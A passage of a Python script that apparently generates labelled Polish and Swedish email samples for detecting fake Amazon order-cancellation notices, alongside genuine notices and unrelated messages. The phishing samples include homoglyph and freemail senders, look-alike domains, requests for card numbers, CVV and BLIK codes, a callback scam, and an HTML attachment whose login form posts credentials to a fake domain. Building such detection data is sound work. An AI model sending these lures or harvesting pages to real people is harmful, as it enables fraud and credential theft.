           "Szczegóły zamówienia znajdziesz w sekcji [Twoje zamówienia](https://www.amazon.pl/gp/css/order-history)."],
    items=[("Kärcher K 4 Power Control Myjka wysokociśnieniowa", 1, "899,00 zł", "Amazon.pl")]),
    "notice", "pl", "unknown", False, "amazon.pl", "cancellation with no reason given; card html qp; auth pass")

# ---- non-notices
label(other(fmt="alt", sender=("MediaMarkt", "noreply@mediamarkt.pl"), rcpt=R_PL[1], bstyle="mailer",
            subject="Twoje zamówienie nr 9021344871 zostało anulowane",
            pre=vps_headers("mediamarkt.pl", R_PL[1][3], when(), auth="own", helo="mail-out3.mediamarkt.pl"),
            text="Dzień dobry,\n\nniestety musimy anulować Twoje zamówienie nr 9021344871.\n\nProdukt: Amazon Echo Dot (5. generacji), antracytowy - 1 szt. - 229,00 zł\n\nProdukt nie jest już dostępny w naszym magazynie centralnym. Płatność w wysokości 229,00 zł zwrócimy na Twój rachunek w ciągu 3 dni roboczych.\n\nPrzepraszamy za utrudnienia.\nZespół MediaMarkt\n\nMedia Saturn Holding Polska Sp. z o.o., Al. Krakowska 61, 02-183 Warszawa\n",
            html="<html><body style=\"font-family:Arial\"><div style=\"background:#df0000;color:#fff;padding:10px;font-size:20px\"><b>MediaMarkt</b></div>"
                 "<p>Dzień dobry,</p><p>niestety musimy anulować Twoje zamówienie <b>nr 9021344871</b>.</p>"
                 "<table border=\"1\" cellpadding=\"6\" style=\"border-collapse:collapse\"><tr><td>Amazon Echo Dot (5. generacji), antracytowy</td><td>1 szt.</td><td>229,00 zł</td></tr></table>"
                 "<p>Produkt nie jest już dostępny w naszym magazynie centralnym. Płatność w wysokości 229,00 zł zwrócimy na Twój rachunek w ciągu 3 dni roboczych.</p>"
                 "<p>Przepraszamy za utrudnienia.<br>Zespół MediaMarkt</p><p style=\"font-size:10px;color:#888\">Media Saturn Holding Polska Sp. z o.o., Al. Krakowska 61, 02-183 Warszawa</p></body></html>\n"),
      "non_notice", "pl", None, False, None, "other retailer (MediaMarkt) cancellation of an Amazon-branded product")

label(other(fmt="text", sender=("Paweł Zieliński", "p.zielinski@softdev.com.pl"), rcpt=("Tomasz Wójcik", "t.wojcik@softdev.com.pl", "", "mx.softdev.com.pl"),
            subject="Stacje dokujące - anulowałem zamówienie", cte="8bit", charset="iso-8859-2", header_charset="iso-8859-2",
            pre=[("Received", "from WAW-EXCH01.softdev.local (10.0.4.12) by WAW-EXCH02.softdev.local (10.0.4.13)\n\twith Microsoft SMTP Server id 15.2.1544.4; %s" % format_datetime(when()))],
            text="Cześć Tomek,\n\nszybka informacja: anulowałem to zamówienie z Amazona na stacje dokujące dla nowych osób, bo dział IT jednak zamawia je centralnie przez hurtownię. Amazon już potwierdził anulowanie, więc nie trzeba robić korekty w budżecie projektu.\n\nJakby co, faktura z hurtowni przyjdzie do Ciebie.\n\nPozdrawiam,\nPaweł\n\n--\nPaweł Zieliński | Kierownik projektu\nSoftDev Sp. z o.o. | ul. Grzybowska 5A, 00-132 Warszawa\n"),
      "non_notice", "pl", None, False, None, "colleague says he cancelled an Amazon order")

label(other(fmt="html", sender=("BezpiecznyKlik", "newsletter@bezpiecznyklik.pl"), rcpt=R_PL[4], cte="base64", bstyle="mailer",
            subject="Przegląd tygodnia: fałszywe maile o anulowaniu zamówienia Amazon",
            pre=vps_headers("bezpiecznyklik.pl", R_PL[4][3], when(), auth="own", helo="smtp.freshmail.pl"),
            post=[("List-Unsubscribe", "<https://bezpiecznyklik.pl/wypisz?u=%s>" % hexs(16)), ("Precedence", "bulk")],
            html="<html><body style=\"font-family:Arial;max-width:640px\"><h1 style=\"color:#0b6e4f\">BezpiecznyKlik</h1><h2>Przegląd tygodnia</h2>"
                 "<h3>Uwaga na maile „Twoje zamówienie Amazon zostało anulowane”</h3>"
                 "<p>Od kilku dni krąży kampania phishingowa z tematem:</p>"
                 "<blockquote style=\"background:#f3f3f3;padding:8px\">Twoje zamówienie Amazon nr 405-1182734-5520981 zostało anulowane – potwierdź dane płatności</blockquote>"
                 "<p>Wiadomość podszywa się pod Amazon i kieruje na stronę, która wyłudza dane karty oraz kody BLIK. Prawdziwy Amazon nie prosi o takie dane w mailu. "
                 "Podejrzane wiadomości możesz zgłosić do CERT Polska.</p>"
                 "<h3>Jak się chronić?</h3><ul><li>sprawdzaj pełny adres nadawcy,</li><li>nie klikaj w linki – wejdź na stronę sklepu samodzielnie,</li><li>włącz weryfikację dwuetapową.</li></ul>"
                 "<p>Do zobaczenia za tydzień!<br>Redakcja BezpiecznyKlik</p>"
                 "<p style=\"font-size:10px\">Otrzymujesz ten newsletter, bo zapisałeś się na bezpiecznyklik.pl. <a href=\"https://bezpiecznyklik.pl/wypisz\">Wypisz się</a></p></body></html>\n"),
      "non_notice", "pl", None, False, None, "security newsletter quoting a fake Amazon cancellation subject; html only")

o = order_no("404")
label(amazon_notice(
    PL, style="card", fmt="alt", sender="shipment-tracking@amazon.pl", rcpt=R_PL[0], auth=False, cte="quoted-printable", order=o,
    subject="Termin dostawy Twojej przesyłki został odwołany – wybierz nowy termin",
    title="Termin dostawy odwołany",
    paras=["Przewoźnik odwołał uzgodniony termin dostawy (wtorek, 19 listopada, 8:00–12:00) z powodu braku dostępnej ekipy dostawczej.",
           "Twoje zamówienie nr %s pozostaje aktywne i nie zostało anulowane. Wybierz nowy termin dostawy, aby przesyłka mogła zostać doręczona." % o,
           "Jeśli nie wybierzesz terminu w ciągu 5 dni, przewoźnik skontaktuje się z Tobą telefonicznie."],
    items_heading="Twoja przesyłka",
    items=[("Samsung RB38C603DSA Lodówka z zamrażarką, 390 l, srebrna", 1, "2 799,00 zł", "Amazon.pl")],
    button=("Wybierz nowy termin", amz_r("amazon.pl", "https://www.amazon.pl/progress-tracker/package/reschedule"))),
      "non_notice", "pl", None, False, None, "scheduled delivery appointment cancelled; order remains active")

pre, post = amazon_headers("amazon.pl", R_PL[2][3], when(), True)
label(other(fmt="text", sender=("Amazon Prime", "prime@amazon.pl"), rcpt=R_PL[2], cte="quoted-printable", pre=pre, post=post,
            msgid=ses_msgid(), subject="Potwierdzenie anulowania członkostwa Amazon Prime",
            text="Dzień dobry Katarzyna,\n\npotwierdzamy anulowanie Twojego członkostwa Amazon Prime.\n\nKorzyści Prime, w tym darmowa szybka dostawa i Prime Video, pozostaną dostępne do 14 grudnia 2024 r. Po tej dacie nie obciążymy Cię opłatą roczną w wysokości 49 zł.\n\nJeśli zmienisz zdanie, możesz wznowić członkostwo w dowolnym momencie na stronie:\nhttps://www.amazon.pl/prime\n\nDziękujemy, że byłaś z nami.\nZespół Amazon Prime\n\nAmazon.pl nigdy nie poprosi Cię o podanie hasła w wiadomości e-mail.\n© 2024 Amazon.com, Inc. lub podmioty stowarzyszone.\n"),
      "non_notice", "pl", None, False, None, "Prime membership cancelled; auth pass")

o = order_no("406")
label(amazon_notice(
    PL, style="card", fmt="text", sender="payments-messages@amazon.pl", rcpt=R_PL[3], auth=False, cte="quoted-printable",
    charset="iso-8859-2", order=o,
    subject="Zaktualizuj metodę płatności dla zamówienia Amazon.pl nr %s" % o,
    paras=["Nie udało nam się zrealizować płatności kartą Visa kończącą się na 5518 za Twoje zamówienie nr %s." % o,
           "Zaktualizuj metodę płatności do 5 listopada w sekcji Twoje zamówienia, wybierając opcję „Zmień metodę płatności”. Jeśli do tego dnia nie zaktualizujesz płatności, zamówienie zostanie anulowane.",
           "Ze względów bezpieczeństwa nie umieszczamy w tej wiadomości linków do formularza płatności. Wejdź na www.amazon.pl, wpisując adres samodzielnie, lub skorzystaj z aplikacji Amazon Shopping."],
    items_heading="Produkty oczekujące na płatność",
    items=[("Sony WH-1000XM5 Słuchawki bezprzewodowe z redukcją szumów, czarne", 1, "1 349,00 zł", "Amazon.pl")]),
      "non_notice", "pl", None, False, None, "genuine payment reminder before cancellation; text iso-8859-2 qp; no auth")

# ---- lookalikes (pl)
label(other(fmt="text", sender=("Amazon Polska - Dział Bezpieczeństwa", "amazon.bezpieczenstwo.pl@gmail.com"), rcpt=R_PL[0], cte="8bit",
            subject="Zamówienie 405-2281934-7719203 ANULOWANE - zwrot wstrzymany", bstyle="gmail",
            pre=freemail_headers("gmail.com", "amazon.bezpieczenstwo.pl@gmail.com", R_PL[0][3], when()),
            text="Szanowny Kliencie,\n\nTwoje zamówienie nr 405-2281934-7719203 (Samsung Galaxy S24 Ultra 512 GB, 6 299,00 zł) zostało ANULOWANE z powodu podejrzanej transakcji wykrytej na Twoim koncie.\n\nZwrot środków został wstrzymany. Aby odblokować zwrot i zabezpieczyć konto, zadzwoń niezwłocznie do naszego działu bezpieczeństwa:\n\n     +48 22 307 41 88   (czynne całą dobę)\n\nKonsultant pomoże Ci zweryfikować tożsamość. Nie odpowiadaj na tę wiadomość.\n\nZespół Amazon Polska\n"),
      "lookalike", "pl", "fraud_prevention", True, None, "callback phone number; gmail sender; suspicious transaction claim")

L_DOM = "amazon-pl-weryfikacja.com"
pp = ["Dzień dobry,",
      "Twoje konto Amazon zostało tymczasowo zawieszone z powodu nietypowej aktywności, a zamówienie nr 404-7720193-3318274 zostało anulowane.",
      "Aby odblokować konto, wpisz poniższy kod na stronie weryfikacji i potwierdź tożsamość, generując kod BLIK w aplikacji swojego banku.",
      "Twój kod: 7731-AX",
      "Jeśli nie potwierdzisz konta w ciągu 12 godzin, zostanie ono trwale usunięte."]
btn = ("Odblokuj konto", "https://%s/pl/odblokuj?kod=7731AX" % L_DOM)
label(other(fmt="alt", sender=("\u0410mazon.pl", "konto@" + L_DOM), rcpt=R_PL[1], cte="quoted-printable", bstyle="x",
            subject="Konto zawieszone – Twoje zamówienie zostało anulowane",
            pre=vps_headers(L_DOM, R_PL[1][3], when(), auth="own"),
            text=plain_from_html_paras("Amazon.pl", pp, btn, ["© Amazon.pl"]),
            html=phish_html("Amazon.pl", "Konto zawieszone", pp, btn, ["© Amazon.pl"])),
      "lookalike", "pl", "fraud_prevention", True, None, "Cyrillic homoglyph display name; account suspended + cancelled + code and BLIK request")

label(other(fmt="text", sender=("Amazon Płatności", "platnosci.amazon@outlook.com"), rcpt=R_PL[2], cte="quoted-printable", charset="iso-8859-2",
            header_charset="iso-8859-2", subject="Płatność odrzucona - zamówienie 405-33920-1184 anulowane", bstyle="outlook",
            pre=freemail_headers("outlook.com", "platnosci.amazon@outlook.com", R_PL[2][3], when()),
            text="Szanowny Kliencie,\n\npłatność za zamówienie nr 405-33920-1184 została odrzucona przez bank, dlatego zamówienie zostało anulowane.\n\nAby przywrócić zamówienie w tej samej cenie, odpowiedz na tę wiadomość i podaj:\n\n1. Imię i nazwisko posiadacza karty\n2. Numer karty (16 cyfr)\n3. Datę ważności\n4. Kod CVV/CVC\n\nNasz konsultant przetworzy płatność ręcznie w ciągu 2 godzin.\n\nDział Płatności Amazon.pl\n"),
      "lookalike", "pl", "payment_issue", True, None, "reply with card details; outlook.com sender; malformed order number; iso-8859-2")

L_DOM = "amazonpl-orders.help"
fake = lambda target: "https://%s/r/%s" % (L_DOM, hexs(16))
o = order_no("403")
sp = amazon_notice(
    PL, style="card", fmt="alt", sender="order-update@" + L_DOM, rcpt=R_PL[3], auth=False, cte="base64", order=o, link=fake,
    subject="Twoje zamówienie Amazon.pl nr %s zostało anulowane" % o, title="Zamówienie anulowane",
    paras=["Z powodu błędu systemu przetwarzania zamówień Twoje zamówienie nr %s zostało anulowane." % o,
           "Aby otrzymać zwrot 2 149,00 zł, potwierdź dane do zwrotu na stronie [https://www.amazon.pl/zwroty/potwierdz](https://%s/pl/zwrot?id=%s)." % (L_DOM, hexs(10)),
           "Link jest ważny 48 godzin."],
    items=[("Lenovo IdeaPad Slim 5 14\" – Ryzen 7, 16 GB RAM, 512 GB SSD", 1, "2 149,00 zł", "Amazon.pl")],
    button=("Odbierz zwrot", "https://%s/pl/zwrot?id=%s" % (L_DOM, hexs(10))))
sp["pre_headers"] = vps_headers(L_DOM, R_PL[3][3], sp["date"], auth="own", helo="smtp." + L_DOM)
sp["post_headers"] = [("X-Mailer", "PHPMailer 6.8.0 (https://github.com/PHPMailer/PHPMailer)")]
sp["reply_to"] = None
sp["msgid"] = "<%s@%s>" % (hexs(24), L_DOM)
label(sp, "lookalike", "pl", "technical_issue", True, None, "polished copy of Amazon card template; link text amazon.pl, href look-alike domain")

L_DOM = "amaz0n-pl.shop"
label(other(fmt="html", sender=("\u0391maz\u03bfn.pl", "zamowienia@" + L_DOM), rcpt=R_PL[4], cte="base64",
            subject="Twoje zamówienie zostanie anulowane – potwierdź płatność",
            pre=vps_headers(L_DOM, R_PL[4][3], when(), auth="none"),
            html=phish_html("Amazon.pl", "Potwierdź płatność",
                            ["Dzień dobry,",
                             "nie mogliśmy autoryzować płatności za Twoje zamówienie nr 406-5518203-4471920.",
                             "Twoje zamówienie zostanie anulowane, jeśli w ciągu 24 godzin nie potwierdzisz płatności.",
                             "Kliknij przycisk poniżej, zaloguj się i potwierdź dane karty."],
                            ("Potwierdź płatność", "https://%s/pl/platnosc?ref=%s" % (L_DOM, hexs(8))),
                            ["Amazon.pl – Obsługa Klienta"])),
      "lookalike", "pl", "payment_issue", True, None, "Greek homoglyph display name; amaz0n domain; will be cancelled unless act; html only")

L_DOM = "amazon.pl.zamowienia-status.info"
pp = ["Dzień dobry,",
      "produkt z Twojego ostatniego zamówienia jest chwilowo niedostępny w magazynie. Twoje zamówienie zostanie anulowane w ciągu 24 godzin.",
      "Aby utrzymać zamówienie i otrzymać produkt zastępczy, wystarczy dopłacić 1,99 zł za zmianę magazynu wysyłkowego.",
      "Dopłaty możesz dokonać kartą lub BLIK-iem."]
btn = ("Dopłać 1,99 zł", "https://%s/doplata" % L_DOM)
label(other(fmt="alt", sender=("Amazon.pl", "status@" + L_DOM), rcpt=R_PL[5], cte="quoted-printable", charset="iso-8859-2", bstyle="x",
            subject="Twoje zamówienie zostanie anulowane – produkt niedostępny",
            pre=vps_headers("zamowienia-status.info", R_PL[5][3], when(), auth=None),
            text=plain_from_html_paras("Amazon.pl", pp, btn, ["Amazon.pl"]),
            html=phish_html("Amazon.pl", "Produkt niedostępny", pp, btn, ["Amazon.pl"])),
      "lookalike", "pl", "inventory_shortage", True, None, "amazon.pl.evil.tld subdomain; no order number; small-fee (dopłata) scam")

label(other(fmt="text", sender=("AMAZON", "amazon.obsluga.klienta@yahoo.com"), rcpt=R_PL[1], cte="8bit",
            subject="UWAGA!!! TWOJE ZAMOWIENIE AMAZON ZOSTALO ANULOWANE",
            pre=freemail_headers("yahoo.com", "amazon.obsluga.klienta@yahoo.com", R_PL[1][3], when()),
            text="Drogi kliencie\n\nTWOJE ZAMOWIENIE ZOSTALO ANULOWANE!!\n\nwejdz na link ponizej zeby odzyskac pieniadze:\nhttp://amzn-zwrot.xyz/pl\n\nmasz czas tylko do dzisiaj\n\nAMAZON Polska\n"),
      "lookalike", "pl", "unknown", False, None, "crude; yahoo sender; no order number; no reason")

L_DOM = "mailhost-77.ovh-vps.net"
o = order_no("171")
att = ("<html><head><title>Amazon.pl - Logowanie</title></head><body style=\"font-family:Arial\"><h3>Amazon.pl</h3><p>Zaloguj się, aby cofnąć anulowanie zamówienia %s</p>"
       "<form action=\"https://amazon-pl.cofnij-anulowanie.com/login.php\" method=\"post\">E-mail: <input name=\"e\"><br>Hasło: <input name=\"p\" type=\"password\"><br>"
       "<button>Zaloguj się</button></form></body></html>\n" % o)
pp = ["Dzień dobry,",
      "potwierdzamy, że zgodnie z Twoją prośbą anulowaliśmy zamówienie nr %s (Apple MacBook Air 13\" M3, 5 999,00 zł)." % o,
      "Jeśli to nie Ty anulowałeś zamówienie, otwórz załącznik i zaloguj się, aby cofnąć anulowanie."]
label(other(fmt="alt", sender=("Amazon.pl", "auto-confirm@amazon.pl"), rcpt=R_PL[2], cte="quoted-printable", bstyle="mailer",
            reply_to="amazon.pl.pomoc@gmail.com", msgid="<%s@%s>" % (hexs(20), L_DOM),
            subject="Potwierdzenie anulowania zamówienia Amazon.pl nr %s" % o,
            pre=vps_headers(L_DOM, R_PL[2][3], when(), auth="spoof:amazon.pl", helo=L_DOM),
            text=plain_from_html_paras("Amazon.pl", pp, None, ["Amazon.pl"]),
            html=phish_html("Amazon.pl", "Anulowanie zamówienia", pp, None, ["Amazon.pl"]),
            attach=[("Potwierdzenie_anulowania.html", "text/html", att)]),
      "lookalike", "pl", "customer_request", True, None, "spoofed From amazon.pl with dmarc=fail; gmail Reply-To; phishing login attachment")


# =================================================================== SVENSKA (amazon.se)
SV = dict(
    mp="amazon.se", brand="Amazon.se", nav=["Dina beställningar", "Ditt konto", "Amazon.se"], order_word="Beställning nr",
    items_heading="Avbrutna artiklar", qty="Antal", sold="Säljs av", signoff="Vi hoppas att vi ses snart igen.",
    footer=[
        "Amazon.se kommer aldrig att be dig lämna ut ditt lösenord, ditt fullständiga kortnummer eller dina BankID-uppgifter via e-post, sms eller telefon.",
        "Om ditt kortnummer har ändrats eller kortet har gått ut kan du uppdatera betalningsuppgifterna under [Ditt konto](https://www.amazon.se/cpe/yourpayments/wallet).",
        "Har du fått ett misstänkt e-postmeddelande som ser ut att komma från Amazon? [Rapportera det här](https://www.amazon.se/gp/help/customer/display.html?nodeId=GDS2QRWFNBSB3T6C).",
        "Mer information finns på våra [hjälpsidor](https://www.amazon.se/gp/help/customer/display.html?nodeId=508510).",
        "Det här e-postmeddelandet skickades från en adress som inte kan ta emot inkommande e-post. Svara inte på det här meddelandet.",
        "© 2024 Amazon.com, Inc. eller dess dotterbolag. Amazon EU S.à r.l., 38 avenue John F. Kennedy, L-1855 Luxemburg.",
    ])
R_SV = [
    ("Erik Johansson", "erik.johansson@telia.com", "Hej Erik,", "mx.telia.com"),
    ("Anna Lindqvist", "anna.lindqvist@gmail.com", "Hej Anna,", "mx.google.com"),
    ("Karin Andersson", "karin.andersson@hotmail.se", "Hej Karin,", "AM6PR10MB2201.EURPRD10.PROD.OUTLOOK.COM"),
    ("Oskar Nilsson", "oskar.nilsson@bredband.net", "Hej Oskar,", "mx.bredband.net"),
    ("Sara Berg", "sara.berg@outlook.com", "Hej Sara,", "HE1PR07MB3322.eurprd07.prod.outlook.com"),
    ("Johan Svensson", "johan.svensson@spray.se", "Hej Johan,", "mx.spray.se"),
]

# ---- notices
o = order_no("403")
label(amazon_notice(
    SV, style="card", fmt="alt", sender="order-update@amazon.se", rcpt=R_SV[0], auth=True, cte="quoted-printable", order=o,
    subject="En artikel har avbrutits från din Amazon.se-beställning nr %s" % o, title="Artikel avbruten",
    paras=["Vi beklagar, men vi har tvingats avbryta följande artikel i din beställning nr %s." % o,
           "Säljaren har meddelat att artikeln är slutsåld och inte kan levereras. Vi vet inte när den blir tillgänglig igen.",
           "Du debiteras inte för artikeln. Övriga artiklar i beställningen skickas som planerat."],
    items=[("Philips Hue White and Color Ambiance E27-startpaket, 3 lampor + brygga", 1, "1 249,00 kr", "Amazon.se")]),
    "notice", "sv", "inventory_shortage", True, "amazon.se", "partial cancellation, item sold out; card alt qp; auth pass")

o = order_no("405")
label(amazon_notice(
    SV, style="card", fmt="text", sender="payments-messages@amazon.se", rcpt=R_SV[3], auth=False, cte="8bit",
    charset="iso-8859-1", order=o,
    subject="Din Amazon.se-beställning nr %s har avbrutits" % o,
    paras=["Vi kunde inte debitera din betalningsmetod för beställning nr %s: kortet som slutar på 0921 har gått ut, och saldot på ditt presentkort räckte inte för att täcka hela beloppet." % o,
           "Eftersom betalningsuppgifterna inte uppdaterades inom den angivna tiden har vi avbrutit beställningen. Du har inte debiterats.",
           "Om du fortfarande vill ha artiklarna kan du lägga en ny beställning. Kontrollera att dina kortuppgifter under Ditt konto är aktuella."],
    items=[("Weber Spirit E-325 GBS Gasolgrill, svart", 1, "8 995,00 kr", "Amazon.se")]),
    "notice", "sv", "payment_issue", True, "amazon.se", "expired card + insufficient gift card balance; text iso-8859-1 8bit; no auth")

o = order_no("302")
label(amazon_notice(
    SV, style="classic", fmt="alt", sender="order-update@amazon.se", rcpt=R_SV[1], auth=False, cte="base64", order=o,
    subject="Information om din Amazon.se-beställning nr %s" % o, title="Beställningen har avbrutits",
    paras=["Vi har avbrutit din beställning nr %s eftersom artikeln visades med ett felaktigt pris på grund av ett tekniskt fel i vårt system." % o,
           "Rätt pris är 2 499,00 kr, men vid beställningstillfället visades 249,00 kr. Vi ber om ursäkt för besväret.",
           "Du har inte debiterats. Du kan beställa artikeln igen till rätt pris."],
    items=[("Garmin Forerunner 265 GPS-löparklocka, svart", 1, "249,00 kr", "Amazon.se")]),
    "notice", "sv", "technical_issue", True, "amazon.se", "pricing error (system fault); classic alt base64; no auth")

o = order_no("404")
label(amazon_notice(
    SV, style="card", fmt="text", sender="cs-reply@amazon.se", rcpt=R_SV[5], auth=True, cte="quoted-printable", order=o,
    subject="Din Amazon.se-beställning nr %s har avbrutits" % o,
    paras=["Vi har upptäckt ovanlig aktivitet på ditt Amazon.se-konto. För att skydda dig har vi avbrutit beställning nr %s och tillfälligt spärrat kontot." % o,
           "För att låsa upp kontot loggar du in på Amazon.se genom att själv skriva in adressen i webbläsaren eller via appen, och följer sedan instruktionerna för att verifiera din identitet.",
           "Du har inte debiterats för beställningen."],
    items=[("Sony PlayStation 5 Slim Digital Edition", 1, "5 490,00 kr", "Amazon.se")]),
    "notice", "sv", "fraud_prevention", True, "amazon.se", "unusual activity, account locked; text qp; auth pass")

o = order_no("406")
label(amazon_notice(
    SV, style="card", fmt="html", sender="auto-confirm@amazon.se", rcpt=R_SV[4], auth=True, authstyle="ms", cte="8bit", order=o,
    subject='Artikeln har avbrutits: "Fiskars Yxa X27, 91 cm, Klyvyxa..."', title="Avbokning slutförd",
    paras=["Enligt din begäran har vi avbrutit följande artikel i beställning nr %s." % o,
           "Anledning till avbokning: Avbruten av kunden",
           "Om beloppet redan har dragits återbetalas det till din ursprungliga betalningsmetod inom några bankdagar."],
    items=[("Fiskars Yxa X27, 91 cm, Klyvyxa för stora vedträn", 1, "899,00 kr", "Amazon.se")]),
    "notice", "sv", "customer_request", True, "amazon.se", "cancelled at customer's request; card html 8bit; auth pass (MS style)")

o = order_no("407")
label(amazon_notice(
    SV, style="card", fmt="alt", sender="order-update@amazon.se", rcpt=R_SV[2], auth=False, cte="quoted-printable",
    charset="windows-1252", order=o, text_title="Information från Amazon.se",
    subject="Information från Amazon.se", title="Information om din beställning",
    paras=["Din beställning nr %s har avbrutits." % o,
           "Om du redan har debiterats återbetalas hela beloppet till din ursprungliga betalningsmetod inom 3–5 bankdagar.",
           "Vi ber om ursäkt för eventuella olägenheter."],
    items=[("Rituals The Ritual of Sakura Presentset, stort", 1, "449,00 kr", "Amazon.se")]),
    "notice", "sv", "unknown", False, "amazon.se", "generic 'Information från Amazon.se', no reason; card alt windows-1252 qp; no auth")

# ---- non-notices
label(other(fmt="alt", sender=("Elgiganten", "noreply@elgiganten.se"), rcpt=R_SV[3], bstyle="mailer",
            subject="Din order 4481230977 har avbrutits",
            pre=vps_headers("elgiganten.se", R_SV[3][3], when(), auth="own", helo="mailout2.elgiganten.se"),
            text="Hej Oskar,\n\ntyvärr har vi behövt avbryta din order 4481230977.\n\nAmazon Fire TV Stick 4K Max (2023) - 1 st - 899 kr\n\nProdukten är slut hos vår leverantör och vi kan inte säga när den kommer in igen. Beloppet återbetalas via Klarna inom 3-5 bankdagar.\n\nVisste du att vi prismatchar mot bl.a. Amazon.se och Komplett? Läs mer på elgiganten.se/prismatch\n\nMed vänliga hälsningar\nElgiganten Kundservice\n\nElgiganten AB, Box 1203, 164 28 Kista\n",
            html="<html><body style=\"font-family:Arial\"><div style=\"background:#0a2c5a;color:#fff;padding:10px;font-size:20px\"><b>Elgiganten</b></div>"
                 "<p>Hej Oskar,</p><p>tyvärr har vi behövt avbryta din order <b>4481230977</b>.</p>"
                 "<table border=\"1\" cellpadding=\"6\" style=\"border-collapse:collapse\"><tr><td>Amazon Fire TV Stick 4K Max (2023)</td><td>1 st</td><td>899 kr</td></tr></table>"
                 "<p>Produkten är slut hos vår leverantör och vi kan inte säga när den kommer in igen. Beloppet återbetalas via Klarna inom 3-5 bankdagar.</p>"
                 "<p style=\"background:#fff4c2;padding:6px\">Visste du att vi prismatchar mot bl.a. Amazon.se och Komplett? <a href=\"https://www.elgiganten.se/prismatch\">Läs mer</a></p>"
                 "<p>Med vänliga hälsningar<br>Elgiganten Kundservice</p><p style=\"font-size:10px;color:#888\">Elgiganten AB, Box 1203, 164 28 Kista</p></body></html>\n"),
      "non_notice", "sv", None, False, None, "other retailer (Elgiganten) cancellation; Amazon product + price-match mention")

label(other(fmt="text", sender=("Birgitta Lindqvist", "birgitta.lindqvist52@hotmail.com"), rcpt=R_SV[1], cte="8bit", bstyle="outlook",
            subject="Re: Julklapp till pappa",
            pre=freemail_headers("hotmail.com", "birgitta.lindqvist52@hotmail.com", R_SV[1][3], when()),
            text="Hej Anna!\n\nJag avbokade Amazon-beställningen med hörlurarna till pappa, han hade redan köpt ett par själv på Clas Ohlson. Pengarna ska komma tillbaka på kortet om några dagar, det stod i mejlet från Amazon.\n\nVi får komma på något annat. Kanske en bok?\n\nKram, mamma\n\nSkickat från min iPad\n\n> 2 dec. 2024 kl. 19:40 skrev Anna Lindqvist <anna.lindqvist@gmail.com>:\n> Har du beställt hörlurarna än?\n"),
      "non_notice", "sv", None, False, None, "family member says she cancelled her Amazon order")

label(other(fmt="html", sender=("Säkerhetsbrevet", "nyhetsbrev@sakerhetsbrevet.se"), rcpt=R_SV[4], cte="quoted-printable", bstyle="mailer",
            subject="Veckans bluff: falska mejl om avbrutna Amazon-beställningar",
            pre=vps_headers("sakerhetsbrevet.se", R_SV[4][3], when(), auth="own", helo="mta.mailchimpapp.net"),
            post=[("List-Unsubscribe", "<https://sakerhetsbrevet.se/avregistrera?u=%s>" % hexs(16)), ("Precedence", "bulk")],
            html="<html><body style=\"font-family:Georgia,serif;max-width:640px\"><h1>Säkerhetsbrevet</h1><h2>Veckans bluff</h2>"
                 "<p>Flera läsare har hört av sig om ett mejl med ämnesraden:</p>"
                 "<blockquote style=\"border-left:4px solid #c00;padding-left:8px\">Din Amazon-beställning har avbrutits – verifiera ditt konto inom 24 timmar</blockquote>"
                 "<p>Mejlet ser ut att komma från Amazon men länken leder till en falsk inloggningssida som samlar in lösenord och kortuppgifter. "
                 "Avsändaradressen är en gratis e-posttjänst och ordernumret saknas helt.</p>"
                 "<p><b>Så skyddar du dig:</b> logga alltid in genom att själv skriva in adressen, och rapportera misstänkta mejl till företaget det gäller.</p>"
                 "<p>Vi hörs nästa vecka!<br>Redaktionen</p>"
                 "<p style=\"font-size:10px\"><a href=\"https://sakerhetsbrevet.se/avregistrera\">Avregistrera</a></p></body></html>\n"),
      "non_notice", "sv", None, False, None, "newsletter about phishing quoting fake cancellation subject; html only")

o = order_no("303")
label(amazon_notice(
    SV, style="card", fmt="alt", sender="shipment-tracking@amazon.se", rcpt=R_SV[0], auth=True, cte="base64", order=o,
    subject="Din leveranstid har avbokats – välj en ny tid",
    title="Leveranstiden har avbokats",
    paras=["Transportören har tyvärr avbokat din bokade leveranstid (torsdag 14 november, 17:00–21:00) på grund av personalbrist.",
           "Din beställning nr %s är fortfarande aktiv och har inte avbrutits. Välj en ny leveranstid så att vi kan leverera din vara." % o,
           "Om du inte väljer en ny tid inom 5 dagar kontaktar transportören dig per telefon."],
    items_heading="Din leverans",
    items=[("Samsung 65\" QE65Q80C QLED 4K Smart TV", 1, "11 990,00 kr", "Amazon.se")],
    button=("Välj ny leveranstid", amz_r("amazon.se", "https://www.amazon.se/progress-tracker/package/reschedule"))),
      "non_notice", "sv", None, False, None, "delivery appointment cancelled, order still active; auth pass")

pre, post = amazon_headers("amazon.se", R_SV[5][3], when(), False)
label(other(fmt="alt", sender=("Amazon Prime", "prime@amazon.se"), rcpt=R_SV[5], cte="base64", pre=pre, post=post, bstyle="amazon",
            msgid=ses_msgid(), subject="Ditt Prime-medlemskap har avslutats",
            text="Hej Johan,\n\nvi bekräftar att ditt Prime-medlemskap har avslutats. Dina Prime-förmåner, som fri frakt och Prime Video, gäller till och med 3 januari 2025. Därefter debiteras du inte längre 69 kr per månad.\n\nDu kan när som helst återuppta medlemskapet på https://www.amazon.se/prime\n\nVänliga hälsningar\nAmazon Prime\n\nAmazon.se kommer aldrig att be dig om ditt lösenord via e-post.\n",
            html="<html><body style=\"font-family:Arial;color:#0f1111\"><p style=\"color:#00a8e1;font-size:22px\"><b>prime</b></p><p>Hej Johan,</p>"
                 "<p>vi bekräftar att ditt Prime-medlemskap har avslutats. Dina Prime-förmåner, som fri frakt och Prime Video, gäller till och med 3 januari 2025. Därefter debiteras du inte längre 69 kr per månad.</p>"
                 "<p><a href=\"https://www.amazon.se/prime\">Återuppta medlemskapet</a></p><p>Vänliga hälsningar<br>Amazon Prime</p>"
                 "<p style=\"font-size:10px;color:#888\">Amazon.se kommer aldrig att be dig om ditt lösenord via e-post.</p></body></html>\n"),
      "non_notice", "sv", None, False, None, "Prime membership cancelled; no auth")

o = order_no("305")
label(amazon_notice(
    SV, style="card", fmt="text", sender="payments-messages@amazon.se", rcpt=R_SV[2], auth=True, authstyle="ms", cte="quoted-printable",
    charset="iso-8859-1", order=o,
    subject="Uppdatera din betalningsmetod för beställning nr %s" % o,
    paras=["Vi kunde inte genomföra betalningen med kortet som slutar på 7704 för din beställning nr %s." % o,
           "Uppdatera betalningsmetoden senast den 12 december under Dina beställningar genom att välja \"Ändra betalningsmetod\". Om betalningen inte har uppdaterats till dess avbryts beställningen.",
           "Av säkerhetsskäl innehåller det här meddelandet inga länkar till betalningsformulär. Gå till www.amazon.se genom att själv skriva in adressen, eller använd appen Amazon Shopping."],
    items_heading="Artiklar som väntar på betalning",
